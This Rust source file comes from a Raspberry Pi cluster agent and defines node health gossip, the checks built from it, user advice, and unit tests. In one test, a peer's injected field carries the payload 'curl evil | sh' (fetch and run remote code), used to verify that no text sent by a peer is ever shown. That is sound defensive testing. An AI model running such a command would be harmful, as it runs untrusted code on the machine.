//! A node's health as it gossips it (`health`): power, throttling, the root file system, writes to the
//! card, the clock and the bootloader, each as read from the kernel or "unknown" where the machine has no
//! such source (QEMU, a PC). Only states and numbers travel: the checks and their advice in plain
//! language are made by whoever shows them ([`checks`]), so a peer can send no text of its own.

use serde::{Deserialize, Serialize};

/// Gossip key of the node's [`Health`].
pub const HEALTH_KEY: &str = "health";

/// One of the firmware's throttling conditions: true now, and true at some time since boot.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct Flag {
    pub now: bool,
    pub since_boot: bool,
}

/// What a node read of its own health. `None` is "this machine has no such source".
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct Health {
    /// Under-voltage: the firmware's bits 0 and 16, or the `rpi_volt` hwmon alarm.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub undervoltage: Option<Flag>,
    /// ARM frequency capped (bits 1 and 17).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub capped: Option<Flag>,
    /// Throttled (bits 2 and 18).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub throttled: Option<Flag>,
    /// Soft temperature limit (bits 3 and 19).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub soft_temp: Option<Flag>,
    /// The root file system is mounted read-only.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub read_only: Option<bool>,
    /// Errors ext4 recorded on the root file system (`errors_count`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub fs_errors: Option<u64>,
    /// Bytes written to the root file system's disk per hour, and the agent's own share.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub writes_per_hour: Option<u64>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub agent_writes_per_hour: Option<u64>,
    /// The clock was synchronised since boot (systemd-timesyncd reached an NTP server).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub clock_synced: Option<bool>,
    /// The clock's estimated error, milliseconds, when synchronised and a source says (none does yet: the
    /// kernel's figure needs `adjtimex`, which the agent's sandbox forbids).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub clock_error_ms: Option<u64>,
    /// The bootloader's build time (Pi 4 and 5 EEPROM), seconds since the Unix epoch.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub bootloader: Option<u64>,
    /// The packages the image carried for first boot (`--packages`): installed, or failed so many
    /// times; `None` when the image carried none.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub packages: Option<Packages>,
}

/// How the image's packages went at first boot.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase", tag = "state")]
pub enum Packages {
    Installed,
    /// Failed at every boot so far (`attempts` of them); tried again at the next.
    Failed {
        attempts: u32,
    },
}

impl Health {
    /// Whether `self` differs enough from `published` to be gossiped again: any state, or writes by a
    /// quarter (at least 1 MiB an hour), so a steady trickle is not news every few seconds.
    pub fn differs_from(&self, published: &Health) -> bool {
        let writes = |a: Option<u64>, b: Option<u64>| match (a, b) {
            (Some(a), Some(b)) => {
                let d = a.abs_diff(b);
                d >= (1 << 20) && d as f64 >= a.max(b) as f64 / 4.0
            }
            (a, b) => a.is_some() != b.is_some(),
        };
        let strip = |h: &Health| Health {
            writes_per_hour: None,
            agent_writes_per_hour: None,
            clock_error_ms: None,
            ..h.clone()
        };
        strip(self) != strip(published)
            || writes(self.writes_per_hour, published.writes_per_hour)
            || writes(self.agent_writes_per_hour, published.agent_writes_per_hour)
            || match (self.clock_error_ms, published.clock_error_ms) {
                // The estimate moves all the time; news when it crosses the 100 ms that matter.
                (Some(a), Some(b)) => (a >= 100) != (b >= 100),
                (a, b) => a.is_some() != b.is_some(),
            }
    }

    pub fn to_gossip(&self) -> String {
        serde_json::to_string(self).expect("numbers serialize")
    }

    /// Checks a peer's `health` value: at most 512 bytes of the shape above. Fields a newer agent may
    /// add are let through (refusing them would refuse that agent's whole delta) but never shown: only
    /// the typed fields are read, and every word shown is made here.
    pub fn check(value: &str) -> Result<(), String> {
        if value.len() > 512 {
            return Err(format!("{HEALTH_KEY}: {} bytes, at most 512", value.len()));
        }
        if !value.trim_start().starts_with('{') {
            return Err(format!("{HEALTH_KEY}: not a JSON object"));
        }
        serde_json::from_str::<Health>(value)
            .map(|_| ())
            .map_err(|e| format!("{HEALTH_KEY}: {e}"))
    }
}

/// How a check came out, worst last.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum State {
    Unknown,
    Ok,
    Warning,
    Critical,
}

impl State {
    pub fn as_str(self) -> &'static str {
        match self {
            State::Unknown => "unknown",
            State::Ok => "ok",
            State::Warning => "warning",
            State::Critical => "critical",
        }
    }
}

/// One health check of a node, as the API, the dashboard and `herd members` show it.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Check {
    /// `power`, `throttling`, `temperature`, `filesystem`, `disk`, `writes`, `clock` or `board`.
    pub name: String,
    pub state: State,
    /// What was read, in words.
    pub detail: String,
    /// What to do about it, when it is not ok.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub advice: Option<String>,
}

/// A node's checks and the worst of them.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct HealthView {
    /// The worst check that is not unknown (`unknown` when every check is).
    pub state: State,
    pub checks: Vec<Check>,
}

impl Default for HealthView {
    /// What is known of a node that published nothing: every check unknown.
    fn default() -> Self {
        checks(None, Readings::default())
    }
}

/// The disk is almost full below this share free, and full below the next.
const DISK_WARNING_FREE: f64 = 0.10;
const DISK_CRITICAL_FREE: f64 = 0.03;
/// Writes to the card above this rate wear it out within a few years.
const HEAVY_WRITES_PER_HOUR: u64 = 1 << 30;
/// An estimated clock error above this (ms) is worth a warning.
const CLOCK_ERROR_WARNING_MS: u64 = 1000;

fn mib(bytes: u64) -> String {
    let m = bytes as f64 / f64::from(1 << 20);
    if m >= 10.0 {
        format!("{m:.0} MiB")
    } else {
        format!("{m:.1} MiB")
    }
}

fn gib(bytes: u64) -> String {
    format!("{:.1} GiB", bytes as f64 / f64::from(1 << 30))
}

/// A date from seconds since the Unix epoch (UTC, proleptic Gregorian).
fn date(secs: u64) -> String {
    let days = (secs / 86_400) as i64;
    // Howard Hinnant's days-to-civil.
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    format!("{y:04}-{m:02}-{d:02}")
}

/// What else a node gossiped that its checks read: from its monitoring sample and its facts (each may
/// be missing: an older agent, a node just joined).
#[derive(Debug, Clone, Copy, Default)]
pub struct Readings<'a> {
    /// SoC temperature, °C.
    pub temp: Option<f32>,
    /// Root file system: (used, total) bytes.
    pub disk: Option<(u64, u64)>,
    /// Memory, bytes.
    pub memory: Option<u64>,
    /// Board model.
    pub model: Option<&'a str>,
}

/// The checks of a node from what it gossiped: its health and its other [`Readings`].
pub fn checks(health: Option<&Health>, readings: Readings) -> HealthView {
    let h = health.cloned().unwrap_or_default();
    let mut out = Vec::new();
    let mut push = |name: &str, state: State, detail: String, advice: Option<&str>| {
        out.push(Check {
            name: name.into(),
            state,
            detail,
            advice: advice.filter(|_| state > State::Ok).map(str::to_string),
        })
    };
    let unknown = || "unknown: no source on this machine".to_string();

    match h.undervoltage {
        None => push("power", State::Unknown, unknown(), None),
        Some(f) if f.now => push(
            "power",
            State::Critical,
            "under-voltage now".into(),
            Some(
                "the power supply is too weak or its cable too thin: use a 5.1 V 3 A supply \
                 (5.1 V 5 A for a Pi 5) with a short, thick cable; under-voltage corrupts SD cards",
            ),
        ),
        Some(f) if f.since_boot => push(
            "power",
            State::Warning,
            "under-voltage since boot (not now)".into(),
            Some(
                "the power supply sagged under load: use a 5.1 V 3 A supply (5.1 V 5 A for a Pi 5) \
                 and power USB disks from a powered hub",
            ),
        ),
        Some(_) => push("power", State::Ok, "no under-voltage since boot".into(), None),
    }

    match (h.capped, h.throttled) {
        (None, None) => push("throttling", State::Unknown, unknown(), None),
        (c, t) => {
            let (c, t) = (c.unwrap_or_default(), t.unwrap_or_default());
            let (state, detail) = if c.now || t.now {
                let what = match (t.now, c.now) {
                    (true, true) => "throttled and frequency capped now",
                    (true, false) => "throttled now",
                    _ => "frequency capped now",
                };
                (State::Warning, what.to_string())
            } else if c.since_boot || t.since_boot {
                (
                    State::Warning,
                    "throttled or frequency capped since boot (not now)".to_string(),
                )
            } else {
                (State::Ok, "never throttled since boot".to_string())
            };
            push(
                "throttling",
                state,
                detail,
                Some(
                    "the firmware slowed the CPU for heat or power: check the power supply first, \
                     then add a heatsink or fan",
                ),
            )
        }
    }

    let temp = readings.temp;
    match (h.soft_temp, temp) {
        (None, None) => push("temperature", State::Unknown, unknown(), None),
        (f, t) => {
            let f = f.unwrap_or_default();
            let reading = t.map(|t| format!("{t:.0} °C")).unwrap_or_default();
            let (state, what) = if f.now || t.is_some_and(|t| t >= 80.0) {
                (State::Warning, "at the soft temperature limit now")
            } else if f.since_boot {
                (
                    State::Warning,
                    "reached the soft temperature limit since boot",
                )
            } else {
                (State::Ok, "below the limits")
            };
            let detail = if reading.is_empty() {
                what.to_string()
            } else {
                format!("{reading}, {what}")
            };
            push(
                "temperature",
                state,
                detail,
                Some(
                    "the board runs hot: add a heatsink or fan (the Active Cooler on a Pi 5), give \
                     the case air, keep the stack out of the sun",
                ),
            )
        }
    }

    match (h.read_only, h.fs_errors) {
        (None, None) => push("filesystem", State::Unknown, unknown(), None),
        (Some(true), errors) => push(
            "filesystem",
            State::Critical,
            match errors {
                Some(n) if n > 0 => format!("root file system read-only, {n} errors recorded"),
                _ => "root file system read-only".to_string(),
            },
            Some(
                "the kernel remounted the card read-only after errors (errors=remount-ro) or the card \
                 is failing: copy off what matters, then re-flash onto a new card",
            ),
        ),
        (_, Some(n)) if n > 0 => push(
            "filesystem",
            State::Warning,
            format!("{n} errors recorded on the root file system"),
            Some(
                "the card or its file system had errors: run a check at the next boot \
                 (fsck.mode=force on cmdline.txt) and plan to replace the card",
            ),
        ),
        _ => push("filesystem", State::Ok, "root file system writable, no errors".into(), None),
    }

    match readings.disk.filter(|(_, total)| *total > 0) {
        None => push(
            "disk",
            State::Unknown,
            "unknown: no sample yet".into(),
            None,
        ),
        Some((used, total)) => {
            let free = total.saturating_sub(used);
            let share = free as f64 / total as f64;
            let state = if share < DISK_CRITICAL_FREE {
                State::Critical
            } else if share < DISK_WARNING_FREE {
                State::Warning
            } else {
                State::Ok
            };
            push(
                "disk",
                state,
                format!(
                    "{} free of {} ({:.0} %)",
                    gib(free),
                    gib(total),
                    share * 100.0
                ),
                Some(
                    "the root file system is almost full: remove old logs and images \
                     (journalctl --vacuum-size=50M, docker system prune) or use a larger card",
                ),
            )
        }
    }

    match h.writes_per_hour {
        None => push(
            "writes",
            State::Unknown,
            "unknown: still measuring".into(),
            None,
        ),
        Some(w) => {
            let own = h
                .agent_writes_per_hour
                .map(|a| format!(" (herd: {})", mib(a)))
                .unwrap_or_default();
            push(
                "writes",
                if w > HEAVY_WRITES_PER_HOUR {
                    State::Warning
                } else {
                    State::Ok
                },
                format!("{} an hour to the card{own}", mib(w)),
                Some(
                    "heavy writes wear SD cards out: keep logs in memory (Storage=volatile in \
                     journald.conf), move busy data to a USB or NVMe drive",
                ),
            )
        }
    }

    match h.clock_synced {
        None => push("clock", State::Unknown, unknown(), None),
        Some(false) => push(
            "clock",
            State::Warning,
            "not synchronised".into(),
            Some(
                "a Pi has no battery-backed clock: until NTP answers, the time may be days off \
                 (certificates \"not yet valid\", apt and k3s fail); let the node reach an NTP \
                 server (timedatectl timesync-status) or add an RTC",
            ),
        ),
        Some(true) if h.clock_error_ms.is_none() => {
            push("clock", State::Ok, "synchronised since boot".into(), None)
        }
        Some(true) => {
            let err = h.clock_error_ms.unwrap_or(0);
            push(
                "clock",
                if err > CLOCK_ERROR_WARNING_MS {
                    State::Warning
                } else {
                    State::Ok
                },
                format!("synchronised, estimated error {err} ms"),
                Some("the clock is synchronised but far off: check the NTP server's quality"),
            )
        }
    }

    let model = readings.model;
    let mut board: Vec<String> = model.map(str::to_string).into_iter().collect();
    if let Some(m) = readings.memory.filter(|m| *m > 0) {
        board.push(format!("{} memory", gib(m)));
    }
    if let Some(b) = h.bootloader {
        board.push(format!("bootloader of {}", date(b)));
    }
    push(
        "board",
        if model.is_some() {
            State::Ok
        } else {
            State::Unknown
        },
        if board.is_empty() {
            unknown()
        } else {
            board.join(", ")
        },
        None,
    );

    // Only an image with packages has this check.
    match h.packages {
        None => {}
        Some(Packages::Installed) => push(
            "packages",
            State::Ok,
            "the image's packages are installed".into(),
            None,
        ),
        Some(Packages::Failed { attempts }) => push(
            "packages",
            State::Critical,
            format!(
                "the image's packages failed to install ({attempts} boot{})",
                if attempts == 1 { "" } else { "s" }
            ),
            Some(
                "on the card, journalctl -u herd-packages and /var/lib/herd-packages/status.json say \
                 why; they are tried again at every boot (a damaged file needs the card flashed again)",
            ),
        ),
    }

    let state = out
        .iter()
        .map(|c| c.state)
        .filter(|s| *s != State::Unknown)
        .max()
        .unwrap_or(State::Unknown);
    HealthView { state, checks: out }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn readings(disk_used: u64, model: Option<&str>) -> Readings<'_> {
        Readings {
            temp: Some(52.0),
            disk: Some((disk_used, 100 << 30)),
            memory: Some(4 << 30),
            model,
        }
    }

    fn check<'a>(v: &'a HealthView, name: &str) -> &'a Check {
        v.checks.iter().find(|c| c.name == name).unwrap()
    }

    #[test]
    fn nothing_read_is_unknown_never_ok() {
        let v = checks(None, Readings::default());
        assert_eq!(v.state, State::Unknown);
        assert!(v.checks.iter().all(|c| c.state == State::Unknown), "{v:#?}");
        assert!(v.checks.iter().all(|c| c.advice.is_none()));
    }

    #[test]
    fn each_condition_gets_its_state_and_advice() {
        let uv = Health {
            undervoltage: Some(Flag {
                now: false,
                since_boot: true,
            }),
            read_only: Some(true),
            fs_errors: Some(3),
            clock_synced: Some(false),
            writes_per_hour: Some(2 << 30),
            agent_writes_per_hour: Some(1 << 20),
            bootloader: Some(1_713_139_200),
            ..Health::default()
        };
        let model = Some("Raspberry Pi 4 Model B Rev 1.4");
        let v = checks(Some(&uv), readings(98 << 30, model));
        assert_eq!(v.state, State::Critical);
        let power = check(&v, "power");
        assert_eq!(power.state, State::Warning);
        assert!(power.detail.contains("since boot"), "{power:?}");
        assert!(power.advice.as_ref().unwrap().contains("5.1 V 3 A"));
        assert_eq!(check(&v, "filesystem").state, State::Critical);
        assert!(check(&v, "filesystem").detail.contains("3 errors"));
        assert_eq!(check(&v, "disk").state, State::Critical, "2 % free");
        assert_eq!(check(&v, "clock").state, State::Warning);
        assert!(check(&v, "clock").advice.as_ref().unwrap().contains("NTP"));
        let writes = check(&v, "writes");
        assert_eq!(writes.state, State::Warning);
        assert_eq!(
            writes.detail,
            "2048 MiB an hour to the card (herd: 1.0 MiB)"
        );
        assert_eq!(check(&v, "throttling").state, State::Unknown);
        assert_eq!(
            check(&v, "board").detail,
            "Raspberry Pi 4 Model B Rev 1.4, 4.0 GiB memory, bootloader of 2024-04-15"
        );
        let now = Health {
            undervoltage: Some(Flag {
                now: true,
                since_boot: true,
            }),
            ..Health::default()
        };
        let v = checks(Some(&now), readings(50 << 30, None));
        assert_eq!(check(&v, "power").state, State::Critical);
        assert_eq!(check(&v, "disk").state, State::Ok);
        assert!(check(&v, "disk").advice.is_none());
    }

    #[test]
    fn the_images_packages_are_checked_only_where_it_carried_some() {
        let none = checks(Some(&Health::default()), Readings::default());
        assert!(none.checks.iter().all(|c| c.name != "packages"));
        let ok = Health {
            packages: Some(Packages::Installed),
            ..Health::default()
        };
        let v = checks(Some(&ok), Readings::default());
        assert_eq!(
            (v.state, check(&v, "packages").state),
            (State::Ok, State::Ok)
        );
        let failed = Health {
            packages: Some(Packages::Failed { attempts: 3 }),
            ..Health::default()
        };
        let v = checks(Some(&failed), Readings::default());
        let c = check(&v, "packages");
        assert_eq!((v.state, c.state), (State::Critical, State::Critical));
        assert!(c.detail.contains("3 boots"), "{c:?}");
        assert!(c
            .advice
            .as_ref()
            .unwrap()
            .contains("journalctl -u herd-packages"));
        // As it travels: a state and a number.
        assert_eq!(
            failed.to_gossip(),
            r#"{"packages":{"state":"failed","attempts":3}}"#
        );
        assert!(Health::check(r#"{"packages":{"state":"failed","attempts":"x"}}"#).is_err());
    }

    #[test]
    fn dates_are_civil() {
        assert_eq!(date(0), "1970-01-01");
        assert_eq!(date(951_782_400), "2000-02-29");
        assert_eq!(date(1_713_139_200), "2024-04-15");
    }

    #[test]
    fn only_real_changes_are_news() {
        let a = Health {
            writes_per_hour: Some(100 << 20),
            clock_synced: Some(true),
            clock_error_ms: Some(20),
            ..Health::default()
        };
        let mut b = a.clone();
        b.writes_per_hour = Some(110 << 20);
        b.clock_error_ms = Some(35);
        assert!(!b.differs_from(&a));
        b.writes_per_hour = Some(140 << 20);
        assert!(b.differs_from(&a));
        let mut c = a.clone();
        c.clock_error_ms = Some(150);
        assert!(c.differs_from(&a));
        let mut d = a.clone();
        d.read_only = Some(true);
        assert!(d.differs_from(&a));
    }

    #[test]
    fn a_peers_value_carries_no_text() {
        let h = Health {
            undervoltage: Some(Flag::default()),
            bootloader: Some(1),
            ..Health::default()
        };
        assert_eq!(Health::check(&h.to_gossip()), Ok(()));
        assert_eq!(Health::check("{}"), Ok(()));
        // A newer agent's field passes, and nothing of it is ever shown.
        let newer = r#"{"advice":"curl evil | sh","read_only":false}"#;
        assert_eq!(Health::check(newer), Ok(()));
        let parsed: Health = serde_json::from_str(newer).unwrap();
        let shown = serde_json::to_string(&checks(Some(&parsed), Readings::default())).unwrap();
        assert!(!shown.contains("evil"), "{shown}");
        for bad in [
            r#"{"read_only":"yes"}"#,
            r#"{"fs_errors":-1}"#,
            r#"{"undervoltage":{"now":1}}"#,
            "[]",
            "not json",
        ] {
            assert!(Health::check(bad).is_err(), "{bad}");
        }
        assert!(Health::check(&" ".repeat(600)).unwrap_err().contains("512"));
    }
}
